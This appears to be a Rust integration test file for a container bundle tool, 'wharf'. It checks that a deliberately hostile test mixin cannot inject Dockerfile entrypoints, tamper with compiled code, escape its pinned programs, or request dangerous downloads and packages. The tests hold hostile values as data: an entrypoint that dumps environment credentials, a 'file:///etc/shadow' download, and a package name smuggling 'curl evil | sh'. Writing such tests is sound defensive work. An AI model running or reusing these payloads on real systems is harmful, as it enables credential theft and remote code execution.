//! Issue 11's attacks on what goes into the invocation image and on what a
//! pinned mixin may run, played by the `hostile-image` test guest through
//! `wharf build` and `wharf install`, the real runtime and a real dockerd.
//! Each asserts that the attack fails with a clear error and that the next
//! build or run works. (Host- and runtime-level versions without Docker are
//! in `host/tests/integration/hostile_image.rs`.)

use wharf_test_support::cli::{Ran, Wharf, busybox_bundle};
use wharf_test_support::docker::ensure_docker;
use wharf_test_support::guest_wasm;

const WHARF: &str = env!("CARGO_BIN_EXE_wharf");

/// A busybox bundle with the exec and hostile-image mixins, whose wharf has
/// hostile-image installed.
fn hostile_bundle(name: &str, manifest: &str) -> (tempfile::TempDir, Wharf) {
    let dir = busybox_bundle(name, manifest, &[]);
    let wharf = Wharf::new(WHARF, dir.path());
    let wasm = guest_wasm("hostile-image");
    wharf
        .run(&["mixins", "install", wasm.to_str().unwrap()])
        .ok();
    (dir, wharf)
}

fn image_of(wharf: &Wharf) -> String {
    let bundle: serde_json::Value = serde_json::from_slice(
        &std::fs::read(wharf.dir.join(".cnab/bundle.json")).expect("bundle.json"),
    )
    .unwrap();
    bundle["invocationImages"][0]["image"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Replaces everything from the hostile-image entry of porter.yaml on
/// with `tail`.
fn replace_hostile_entry(dir: &std::path::Path, tail: &str) {
    let path = dir.join("porter.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    let head = text.split("  - hostile-image:").next().unwrap();
    std::fs::write(path, format!("{head}{tail}")).unwrap();
}

fn refused(ran: &Ran, needles: &[&str]) {
    for needle in needles {
        assert!(
            ran.stderr.contains(needle),
            "wharf {:?}: expected {needle:?} in:\n{}",
            ran.args,
            ran.stderr
        );
    }
}

/// Hole 2: a mixin's `build` returns an `ENTRYPOINT` (which ran before the
/// runtime, with every credential), a `USER`, a line that would swallow
/// Wharf's next one, and an instruction hidden in one returned line; each
/// build fails naming the mixin and the line. The same bundle with honest
/// lines builds, and its image runs the runtime as the nonroot user.
#[test]
fn a_mixin_cannot_take_over_the_image_with_its_dockerfile_lines() {
    let lines_manifest = |lines: &str| {
        format!(
            "  - hostile-image:\n      lines: {lines}\n\
             install:\n  - exec:\n      description: hi\n      command: echo\n      \
             arguments: [\"the runtime ran\"]\n"
        )
    };
    let (dir, wharf) = hostile_bundle(
        "hostile-lines",
        &lines_manifest(
            r#"["RUN true", "ENTRYPOINT [\"/bin/sh\", \"-c\", \"env; cat /cnab/app/*\"]"]"#,
        ),
    );
    let attacks = [
        (
            r#"["RUN true", "ENTRYPOINT [\"/bin/sh\", \"-c\", \"env; cat /cnab/app/*\"]"]"#,
            vec!["hostile-image mixin's Dockerfile line 2", "ENTRYPOINT"],
        ),
        (
            r#"["RUN echo ok", "  user 0"]"#,
            vec!["hostile-image mixin's Dockerfile line 2", "USER"],
        ),
        (
            r#"["RUN true \\"]"#,
            vec!["hostile-image mixin's Dockerfile line 1", "ends with"],
        ),
        (
            r#"["RUN true\nCMD [\"/bin/sh\"]"]"#,
            vec!["hostile-image mixin's Dockerfile line 1", "CMD"],
        ),
    ];
    for (lines, needles) in attacks {
        replace_hostile_entry(dir.path(), &lines_manifest(lines));
        // `wharf build` lints first, and checks the lines itself too.
        let linted = wharf.run(&["lint"]).failed();
        assert!(
            linted.stdout.contains("mixin-dockerfile-line"),
            "{}",
            linted.stdout
        );
        refused(&wharf.run(&["build"]).failed(), &needles);
        refused(&wharf.run(&["build", "--no-lint"]).failed(), &needles);
        assert!(
            !dir.path().join(".cnab/bundle.json").exists(),
            "nothing was built"
        );
    }

    let honest = std::fs::read_to_string(dir.path().join("porter.yaml"))
        .unwrap()
        .split("  - hostile-image:")
        .next()
        .unwrap()
        .to_string()
        + &lines_manifest(r#"["RUN echo honest > /tmp/honest", "LABEL sh.wharf.test=honest"]"#);
    std::fs::write(dir.path().join("porter.yaml"), honest).unwrap();
    wharf.run(&["build"]).ok();
    let image = image_of(&wharf);
    let docker = ensure_docker();
    let inspect = docker
        .docker()
        .args(["image", "inspect", "--format", "{{json .Config}}", &image])
        .output()
        .unwrap();
    let config: serde_json::Value = serde_json::from_slice(&inspect.stdout).unwrap();
    assert_eq!(config["Entrypoint"], serde_json::Value::Null, "{config}");
    assert_eq!(config["User"], "65532:0");
    assert_eq!(config["WorkingDir"], "/cnab/app");
    assert_eq!(config["Cmd"], serde_json::json!(["/cnab/app/run"]));
    let install = wharf.run(&["install"]).ok();
    assert!(
        install.stdout.contains("the runtime ran"),
        "{}",
        install.stdout
    );
}

const TAMPER_MANIFEST: &str = r#"  - hostile-image
install:
  - hostile-image:
      description: "Replace the other mixins' compiled code with mine"
      tamper: true
  - exec:
      description: "Run after the tampering"
      command: echo
      arguments: ["exec is still exec"]
"#;

/// Hole 1: a step rewrites another mixin's precompiled file (here with its
/// own, validly framed compiled code) so that the runtime would deserialize
/// native code of its choosing for the next step. The compiled mixins are
/// root's and read-only outside the bundle directory, so the step cannot
/// reach them and the next step runs the real exec. A file changed anyway
/// (as root) is refused before it is loaded, naming the mixin.
#[test]
fn a_step_cannot_replace_another_mixins_compiled_code() {
    let (_dir, wharf) = hostile_bundle("hostile-tamper", TAMPER_MANIFEST);
    let install = wharf.run(&["install"]).ok();
    assert!(
        install.stdout.contains("tamper report:")
            && !install.stdout.contains("overwritten")
            && install.stdout.contains("exec is still exec"),
        "{}",
        install.stdout
    );

    let image = image_of(&wharf);
    let docker = ensure_docker();
    // As the bundle's user: Wharf's files are root's and read-only.
    let listing = docker
        .docker()
        .args(["run", "--rm", "--entrypoint", "/bin/sh", &image, "-c"])
        .arg(
            "stat -c '%u:%g %a %n' /cnab/wharf/mixins /cnab/wharf/mixins/exec.cwasm \
             /cnab/wharf/mixins/index.json /cnab/bundle.json; \
             cp /cnab/wharf/mixins/hostile-image.cwasm /cnab/wharf/mixins/exec.cwasm \
             && echo COPIED; echo x >> /cnab/bundle.json && echo APPENDED; \
             ls /cnab/app/mixins 2>&1; id -u",
        )
        .output()
        .unwrap();
    let listing = String::from_utf8_lossy(&listing.stdout).into_owned();
    assert!(
        listing.contains("0:0 555 /cnab/wharf/mixins\n")
            && listing.contains("0:0 444 /cnab/wharf/mixins/exec.cwasm\n")
            && listing.contains("0:0 444 /cnab/wharf/mixins/index.json\n")
            && listing.contains("0:0 444 /cnab/bundle.json\n")
            && !listing.contains("COPIED")
            && !listing.contains("APPENDED")
            && listing.contains("No such file")
            && listing.trim_end().ends_with("65532"),
        "{listing}"
    );

    // As root, which a bundle never is: the runtime checks the file against
    // the digest the index recorded and refuses it.
    let tampered = docker
        .docker()
        .args([
            "run",
            "--rm",
            "--user",
            "0",
            "-e",
            "CNAB_ACTION=install",
            "-e",
            "CNAB_INSTALLATION_NAME=e2e",
            "--entrypoint",
            "/bin/sh",
            &image,
            "-c",
            "cp /cnab/wharf/mixins/hostile-image.cwasm /cnab/wharf/mixins/exec.cwasm \
             && exec /cnab/app/run",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&tampered.stderr);
    assert!(!tampered.status.success(), "{stderr}");
    assert!(
        stderr.contains("exec")
            && stderr.contains("not the precompiled mixin this bundle was built with")
            && stderr.contains("rebuild the bundle"),
        "{stderr}"
    );
    assert!(
        !String::from_utf8_lossy(&tampered.stdout).contains("exec is still exec"),
        "the tampered exec did not run"
    );

    // The next run works.
    let again = wharf.run(&["install", "--force"]).ok();
    assert!(
        again.stdout.contains("exec is still exec"),
        "{}",
        again.stdout
    );
}

const PINNED_MANIFEST: &str = r#"  - hostile-image
parameters:
  - name: program
    type: string
install:
  - hostile-image:
      description: "Run a program"
      run: ["${ bundle.parameters.program }", "-c", "echo pwned"]
"#;

/// Hole 6: a mixin whose metadata depends on the clock (it declares `sh`
/// once the clock is past 2001) is pinned, in wharf.lock and the image's
/// index, with what it declares under the stopped clock of pure calls:
/// `echo`. At run time it cannot run `sh`; it can run `echo`. A lock that
/// pins other programs than the mixin declares is refused by the build.
#[test]
fn a_pinned_mixin_runs_only_the_programs_it_was_pinned_with() {
    let (dir, wharf) = hostile_bundle("hostile-pinned", PINNED_MANIFEST);
    wharf.run(&["build"]).ok();
    let lock: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("wharf.lock")).unwrap()).unwrap();
    assert_eq!(
        lock["mixins"]["hostile-image"]["programs"],
        serde_json::json!(["echo"])
    );
    let image = image_of(&wharf);
    let docker = ensure_docker();
    let index = docker
        .docker()
        .args(["run", "--rm", "--entrypoint", "cat", &image])
        .arg("/cnab/wharf/mixins/index.json")
        .output()
        .unwrap();
    let index: serde_json::Value = serde_json::from_slice(&index.stdout).unwrap();
    let entry = index
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "hostile-image")
        .unwrap();
    assert_eq!(entry["programs"], serde_json::json!(["echo"]));

    let attack = wharf.run(&["install", "--param", "program=sh"]).failed();
    refused(&attack, &["hostile-image", "may not run `sh`", "`echo`"]);
    assert!(!attack.stdout.contains("pwned"), "{}", attack.stdout);

    let next = wharf.run(&["install", "--param", "program=echo"]).ok();
    assert!(next.stdout.contains("-c echo pwned"), "{}", next.stdout);

    // A lock edited to grant more than the mixin declares is refused.
    let edited = std::fs::read_to_string(dir.path().join("wharf.lock"))
        .unwrap()
        .replace("\"echo\"\n", "\"echo\",\n        \"sh\"\n");
    assert!(edited.contains("\"sh\""), "{edited}");
    std::fs::write(dir.path().join("wharf.lock"), edited).unwrap();
    let rebuilt = wharf.run(&["build", "--no-cache"]).failed();
    refused(
        &rebuilt,
        &[
            "hostile-image",
            "declares the programs [echo]",
            "pinned [echo, sh]",
        ],
    );
}

/// A 0.2.0 mixin's `build` asks for downloads and packages, and the host
/// writes the lines. A download into `/cnab` (over the runtime), a setuid
/// one, one from a `file://` URL and a package "name" that is a shell
/// command are each refused by lint and by the build, naming the mixin
/// and the contribution; nothing is built.
#[test]
fn a_mixin_cannot_install_a_download_or_package_where_it_pleases() {
    let manifest = |config: &str| {
        format!(
            "  - hostile-image:\n{config}install:\n  - exec:\n      description: hi\n      \
             command: echo\n      arguments: [\"ran\"]\n"
        )
    };
    let (dir, wharf) = hostile_bundle("hostile-downloads", &manifest("      lines: []\n"));
    let attacks = [
        (
            "      downloads:\n        - {url: \"http://127.0.0.1:9/x\", destination: /cnab/wharf/runtime}\n",
            "inside /cnab",
        ),
        (
            "      downloads:\n        - {url: \"http://127.0.0.1:9/x\", destination: /usr/bin/su, mode: 2541}\n",
            "sets a setuid, setgid or sticky bit",
        ),
        (
            "      downloads:\n        - {url: \"file:///etc/shadow\", destination: /usr/bin/x}\n",
            "is not an http:// or https:// URL",
        ),
        (
            "      packages: [\"git; curl evil | sh\"]\n",
            "is not a Debian package name",
        ),
    ];
    for (config, reason) in attacks {
        replace_hostile_entry(dir.path(), &manifest(config));
        let linted = wharf.run(&["lint"]).failed();
        assert!(linted.stdout.contains(reason), "{}", linted.stdout);
        refused(
            &wharf.run(&["build", "--no-lint"]).failed(),
            &[
                "the hostile-image mixin's build contribution 1 is refused",
                reason,
            ],
        );
        assert!(
            !dir.path().join(".cnab/bundle.json").exists(),
            "nothing was built"
        );
    }
}
